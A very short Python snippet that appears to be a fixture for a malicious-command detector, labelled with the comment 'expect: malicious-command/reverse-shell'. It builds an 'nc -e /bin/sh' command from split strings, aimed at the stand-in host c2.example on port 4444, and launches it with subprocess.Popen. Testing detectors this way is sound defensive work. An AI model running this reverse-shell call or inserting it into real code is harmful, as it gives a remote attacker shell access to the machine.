import subprocess

words = ["n" + "c", "-e", "/bin/" + "sh", "c2.example", "4444"]
subprocess.Popen(words) # expect: malicious-command/reverse-shell
